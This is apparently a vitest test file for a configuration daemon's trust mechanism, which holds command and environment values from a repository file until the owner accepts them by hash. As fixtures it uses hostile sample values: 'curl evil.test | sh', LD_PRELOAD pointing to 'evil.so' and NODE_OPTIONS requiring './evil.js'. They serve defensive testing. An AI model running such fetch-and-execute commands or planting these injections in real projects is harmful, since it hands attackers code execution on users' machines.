import { chmod, mkdir, readFile, stat, unlink, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { describe, expect, test } from "vitest";
import { hashOfValue } from "../../../main/store/values/trusted-values.ts";
import type { JsonValue } from "../../../shared/json.ts";
import { type TestDaemon, type TestDaemonOptions, until } from "../../helpers/daemon.ts";
import { systemError, watchFileSystem } from "../../helpers/file-system.ts";
import { healthOf, saveByRename } from "../../helpers/shop.ts";
import { startWorkTree } from "../../helpers/work-tree.ts";

const service = (ready: string): JsonValue => ({ web: { ready, image: "node:24" } });
const [good, evil, other] = [service("true"), service("curl evil.test | sh"), service("curl other.test | sh")];
type Fields = { readonly [field: string]: JsonValue };
const textOf = (svc: Fields) => `${JSON.stringify({ config: { svc } })}\n`;

/** A work tree whose file has these values when it is added. */
async function startTree(svc: Fields = {}, options: TestDaemonOptions = {}) {
  const tree = await startWorkTree(textOf(svc), options);
  return {
    ...tree,
    pull: (pulled: Fields) => tree.pull(textOf(pulled)),
    served: () => tree.value("services"),
    waiting: async () => (await tree.t.owner.call("trust/list", { repo: "site" })).result,
    accept: async (value: JsonValue) => {
      const accepted = { repo: "site", field: "svc.services", hash: hashOfValue(value) };
      return (await tree.t.owner.call("trust/accept", accepted)).errors;
    },
  };
}

/** Adds the scope `tasks` with these fields. */
async function addTasks(t: TestDaemon, properties: object): Promise<void> {
  await writeFile(join(t.homeFolder, "scopes/tasks.schema.json"), JSON.stringify({ type: "object", properties }));
  await t.restart();
}

describe("a command value from a work tree's file", () => {
  test("waits, reported in the health, while the values beside it are active; its last valid value is served", async () => {
    await using tree = await startTree({ timeout: 30 });
    await tree.set({ "svc.services": good });
    await tree.pull({ timeout: 40, services: evil });
    expect(await tree.value("timeout")).toBe(40);
    expect(await tree.served()).toEqual(good);
    const [problem, ...rest] = await healthOf(tree.t, "site");
    expect(rest).toEqual([]);
    expect(problem).toMatchObject({ code: 1114, field: "svc.services", line: 1 });
    expect(problem?.message).toMatch(/repoconf trust.*using its last valid value/);
    expect(problem?.message).not.toContain("evil");
    const waits = { value: evil, effect: { command: true }, hash: hashOfValue(evil), serving: good };
    expect((await tree.t.owner.call("trust/list")).result).toEqual([{ repo: "site", field: "svc.services", ...waits }]);
    expect((await tree.t.owner.call("config/explain", { repo: "site", field: "svc.services" })).result).toMatchObject({
      origin: "lastGood",
      value: good,
    });
    // A set of another field leaves both unchanged.
    await tree.set({ "svc.timeout": 50 });
    for (const restart of [async () => {}, tree.t.restart]) {
      await restart();
      expect(await tree.served()).toEqual(good);
      expect(await tree.waiting()).toHaveLength(1);
    }
  });

  test("is named by a list with waits: true, as soon as it is in the file, for keys that may read the field", async () => {
    await using tree = await startTree({ timeout: 30 });
    const list = async (client = tree.t.owner) =>
      (await client.call("config/list", { repo: "site", field: "svc.timeout", waits: true })).waits;
    const keyOf = async (...fields: string[]) => {
      const grants = [{ repos: ["site"], fields, right: "read" as const }];
      return tree.t.connect(
        (await tree.t.owner.call("key/create", { name: `tool ${fields.length}`, grants })).result.key,
      );
    };
    expect(await list()).toEqual([]);
    // Nobody waits here until the daemon has noticed it.
    await writeFile(join(tree.folder, ".repoconf.json"), textOf({ timeout: 40, services: evil }));
    expect(await list()).toEqual(["svc.services"]);
    expect(await list(await keyOf("svc.timeout", "svc.services"))).toEqual(["svc.services"]);
    expect(await list(await keyOf("svc.timeout"))).toEqual([]);
    expect(await tree.t.owner.call("config/list", { repo: "site" })).not.toHaveProperty("waits");
  });

  test("a list with waits: true has the values of the file as it is, also of a branch without the file", async () => {
    await using tree = await startTree({ timeout: 30 });
    const list = async () =>
      (await tree.t.owner.call("config/list", { repo: "site", waits: true })).result["svc"]?.["timeout"];
    expect(await list()).toBe(30);
    await unlink(join(tree.folder, ".repoconf.json"));
    expect(await list()).toBe(900);
    await writeFile(join(tree.folder, ".repoconf.json"), textOf({ timeout: 40 }));
    expect(await list()).toBe(40);
  });

  test("waits from the start, with the default served; once accepted it is active like a change by hand", async () => {
    await using tree = await startTree({ services: evil, envvars: [{ name: "LD_PRELOAD", value: "evil.so" }] });
    expect(await tree.served()).toEqual({});
    expect(await tree.value("envvars")).toEqual([]);
    const args = { repo: "site", field: "svc.services", hash: hashOfValue(evil) };
    const { result } = await tree.t.owner.call("trust/accept", args);
    expect(await tree.t.owner.nextChange()).toMatchObject({
      revision: result.revision,
      source: "file",
      actor: "file",
      changes: { svc: { services: { value: evil, previous: {} } } },
    });
    expect(await tree.served()).toEqual(evil);
    expect((await tree.waiting()).map(({ field }) => field)).toEqual(["svc.envvars"]);
    // Accepting it twice changes nothing.
    expect(await tree.accept(evil)).toEqual([]);
    await tree.t.restart();
    expect(await tree.served()).toEqual(evil);
    expect(await tree.value("envvars")).toEqual([]);
  });

  test("is accepted by the hash that was shown: a hash of another value than the file's gives 1104", async () => {
    await using tree = await startTree();
    await tree.pull({ services: evil });
    await tree.pull({ services: other });
    expect(await tree.accept(evil)).toMatchObject([{ code: 1104 }]);
    expect(await tree.served()).toEqual({});
    // Nor is it trusted later.
    await tree.pull({ services: evil });
    expect(await tree.served()).toEqual({});
  });

  test("needs to be accepted once: branches switch back and forth, even across a restart, whatever the order of members", async () => {
    await using tree = await startTree();
    await tree.set({ "svc.services": good });
    await tree.pull({ services: evil });
    expect(await tree.accept(evil)).toEqual([]);
    for (const value of [good, evil, { web: { image: "node:24", ready: "true" } }, evil]) {
      await tree.pull({ services: value });
      expect(await tree.served()).toEqual(value);
      await tree.pull({});
      expect(await tree.served()).toEqual({});
    }
    await tree.t.restart();
    await tree.pull({ services: good });
    expect(await tree.served()).toEqual(good);
    await tree.pull({ services: other });
    expect(await tree.served()).toEqual(good);
  });

  test("is trusted only in its own field and repository", async () => {
    const command = { type: "string", "x-command": true, default: "" };
    await using tree = await startTree();
    await addTasks(tree.t, { run: command, stop: command });
    await tree.set({ "tasks.run": "make" });
    await saveByRename(tree.file, JSON.stringify({ config: { tasks: { run: "make", stop: "make" } } }));
    expect((await tree.waiting()).map(({ field }) => field)).toEqual(["tasks.stop"]);
    const twin = join(tree.folder, "twin");
    await mkdir(twin);
    await writeFile(join(twin, ".repoconf.json"), JSON.stringify({ config: { tasks: { run: "make" } } }));
    await tree.t.owner.call("repo/add", { id: "twin", name: "twin", path: twin, inTree: true });
    const { result } = await tree.t.owner.call("trust/list");
    expect(result.map(({ repo, field }) => `${repo} ${field}`)).toEqual(["site tasks.stop", "twin tasks.run"]);
  });

  test("also waits if it becomes an environment variable, whatever x-command says", async () => {
    await using tree = await startTree();
    await addTasks(tree.t, {
      options: { type: "string", "x-env": "NODE_OPTIONS", default: "" },
      path: { type: "string", "x-env": "PATH", "x-command": false, default: "" },
    });
    const tasks = { options: "--require ./evil.js", path: "evil" };
    await saveByRename(tree.file, JSON.stringify({ config: { tasks } }));
    expect((await tree.waiting()).map(({ field }) => field)).toEqual(["tasks.options", "tasks.path"]);
    expect((await tree.t.owner.call("config/list", { repo: "site", scope: "tasks" })).result).toEqual({
      tasks: { options: "", path: "" },
    });
  });

  test("is trusted by a set of the same value, but not by a dry run or a refused set", async () => {
    await using tree = await startTree();
    await tree.pull({ services: evil });
    await tree.t.owner.call("config/set", { repo: "site", "svc.services": evil, dryRun: true });
    await tree.t.owner.call("config/set", { repo: "site", "svc.services": evil, "svc.timeout": -1, atomic: true });
    expect(await tree.served()).toEqual({});
    expect(await tree.set({ "svc.services": evil })).toEqual([]);
    expect(await tree.served()).toEqual(evil);
    expect(await healthOf(tree.t, "site")).toEqual([]);
    await tree.t.restart();
    await tree.pull({});
    await tree.pull({ services: evil });
    expect(await tree.served()).toEqual(evil);
  });

  test("is not trusted by undo or restore: an old value that nobody trusted gives 1114, and the rest is restored", async () => {
    await using tree = await startTree();
    await tree.pull({ services: evil, timeout: 40 });
    await tree.accept(evil);
    const { revision } = await tree.t.owner.call("config/list", { repo: "site" });
    await tree.set({ "svc.services": good, "svc.timeout": 50 });
    await tree.t.daemon.close();
    await unlink(join(tree.home, "trust.json"));
    await tree.t.restart();
    const restore = { repo: "site", to: revision };
    const { errors, result } = await tree.t.owner.call("history/restore", restore);
    expect(errors).toMatchObject([{ code: 1114, field: "svc.services", repo: "site" }]);
    expect(result[0]?.config).toMatchObject({ svc: { timeout: { value: 40 } } });
    expect(await tree.value("timeout")).toBe(40);
    expect(await tree.served()).toEqual(good);
    expect(await readFile(tree.file, "utf8")).not.toContain("evil");
    // What is active stays trusted.
    await tree.pull({});
    await tree.pull({ services: good });
    expect(await tree.served()).toEqual(good);
  });

  test("is not dropped by a restore, or by a change of a place in the active value, which are refused; a set of the whole value replaces it", async () => {
    await using tree = await startTree();
    await tree.set({ "svc.services": good, "svc.envvars": [] });
    await tree.set({ "svc.services": {} });
    await tree.pull({ services: evil, timeout: "x" });
    const place = { field: "svc.services", path: "/web/image", op: "set", value: "x" } as const;
    for (const reply of [
      await tree.t.owner.call("history/restore", { repo: "site", to: 2 }),
      await tree.t.owner.call("history/restore", { repo: "site", to: 2, fields: ["svc.services"] }),
      await tree.t.owner.call("config/set", { repo: "site", edits: [place] }),
    ])
      expect(reply.errors).toMatchObject([{ code: 1114, field: "svc.services", repo: "site" }]);
    expect(await tree.waiting()).toMatchObject([{ field: "svc.services", value: evil }]);
    expect(await tree.set({ "svc.services": good })).toEqual([]);
    expect(await tree.waiting()).toEqual([]);
    // The same goes for a place in an invalid value, but not for a restore, which corrects it.
    await tree.pull({ services: { web: "typo" } });
    const { errors } = await tree.t.owner.call("config/set", { repo: "site", edits: [place] });
    expect(errors).toMatchObject([
      { code: 1103, field: "svc.services", message: expect.stringContaining("is invalid") },
    ]);
    expect(await readFile(tree.file, "utf8")).toContain("typo");
    const restored = await tree.t.owner.call("history/restore", { repo: "site", to: 2, fields: ["svc.services"] });
    expect(restored.errors).toEqual([]);
    expect(await readFile(tree.file, "utf8")).not.toContain("typo");
  });

  test("leaves no hash once it is forgotten, and is not trusted because of an earlier repository with the same id", async () => {
    await using tree = await startTree();
    await tree.set({ "svc.services": evil });
    await tree.set({ "svc.services": good });
    await tree.t.owner.call("history/forget", { repo: "site", field: "svc.services" });
    const text = await readFile(join(tree.home, "trust.json"), "utf8");
    expect(text).toContain(hashOfValue(good));
    expect(text).not.toContain(hashOfValue(evil));
    await tree.t.owner.call("repo/remove", { repo: "site" });
    await tree.t.owner.call("repo/add", { id: "site", name: "site", path: tree.folder, inTree: true });
    expect(await tree.served()).toEqual({});
    expect(await tree.waiting()).toHaveLength(1);
  });
});

describe("trust/*", () => {
  test("is for the owner only, and reports what is wrong with the arguments", async () => {
    await using tree = await startTree({ services: evil });
    const limited = await tree.t.connectWith([{ repos: "*", fields: ["*"], right: "write" }]);
    const args = { repo: "site", field: "svc.services", hash: hashOfValue(evil) };
    expect((await limited.call("trust/list")).errors).toMatchObject([{ code: 1105 }]);
    expect((await limited.call("trust/accept", args)).errors).toMatchObject([{ code: 1105 }]);
    const codeOf = async (wrong: object) =>
      (await tree.t.owner.call("trust/accept", { ...args, ...wrong })).errors[0]?.code;
    expect(await codeOf({ repo: null })).toBe(1006);
    expect(await codeOf({ repo: "nope" })).toBe(1102);
    expect(await codeOf({ field: "" })).toBe(1008);
    expect(await codeOf({ field: "svc.nope" })).toBe(1011);
    expect(await codeOf({ field: "svc.timeout" })).toBe(1104);
    expect(await codeOf({ hash: "0" })).toBe(1104);
    await writeFile(tree.file, "{");
    expect(await codeOf({})).toBe(1106);
    // Anyone who may write the field may set it, and so trust it.
    await tree.pull({ services: evil });
    expect((await limited.call("config/set", { repo: "site", "svc.services": evil })).errors).toEqual([]);
    expect(await tree.served()).toEqual(evil);
  });

  test("a failing disk keeps a value that was accepted or set out of service, with 1108", async () => {
    const fileSystem = watchFileSystem();
    await using tree = await startTree({ services: evil }, { fileSystem });
    let isFull = true;
    fileSystem.before = ({ operation, path }) => {
      if (isFull && operation === "rename" && path.includes("/tmp/")) throw systemError("ENOSPC");
    };
    expect(await tree.accept(evil)).toMatchObject([{ code: 1108 }]);
    await tree.t.owner.call("file/read", { repo: "site" });
    expect(await tree.served()).toEqual({});
    expect(await tree.set({ "svc.services": other })).toMatchObject([{ code: 1108 }]);
    expect(await tree.served()).toEqual({});
    isFull = false;
    expect(await tree.accept(evil)).toEqual([]);
    expect(await tree.served()).toEqual(evil);
    // A set that the log refuses leaves no trust: its value waits when a pull brings it.
    let failing = 1;
    fileSystem.before = ({ operation, path }) => {
      if (operation === "write" && path.includes("/log/") && failing-- > 0) throw systemError("ENOSPC");
    };
    expect(await tree.set({ "svc.services": other })).toMatchObject([{ code: 1108 }]);
    await tree.pull({ services: other });
    expect(await tree.waiting()).toMatchObject([{ field: "svc.services" }]);
    expect(await tree.served()).toEqual(evil);
  });

  test("trust.json is private to its user, and a damaged or lost one trusts only what is active", async () => {
    const fileSystem = watchFileSystem();
    await using tree = await startTree({}, { fileSystem });
    await tree.set({ "svc.services": evil });
    await tree.set({ "svc.services": good });
    const file = join(tree.home, "trust.json");
    if (process.platform !== "win32") expect((await stat(file)).mode & 0o777).toBe(0o600);
    await tree.t.daemon.close();
    await writeFile(file, "{");
    if (process.platform !== "win32") await chmod(file, 0o666);
    await tree.t.restart();
    expect(await tree.served()).toEqual(good);
    const [found] = (await tree.t.owner.call("daemon/status")).result.findings ?? [];
    expect(found?.message).toContain("trust.json is invalid");
    expect(await readFile(found?.kept ?? "", "utf8")).toBe("{");
    await tree.pull({ services: evil });
    expect(await tree.served()).toEqual(good);
    await until(async () => (await stat(file)).size > 2, "the file to be written again");
    if (process.platform !== "win32") expect((await stat(file)).mode & 0o777).toBe(0o600);
    // The same holds if it is lost and cannot be written.
    await tree.pull({ services: good });
    await tree.t.daemon.close();
    await unlink(file);
    fileSystem.before = ({ operation, path }) => {
      if (operation === "open" && path.includes("/tmp/trust")) throw systemError("ENOSPC");
    };
    await tree.t.restart();
    expect(await tree.set({ "svc.timeout": 31 })).toEqual([]);
    expect(await tree.served()).toEqual(good);
  });
});
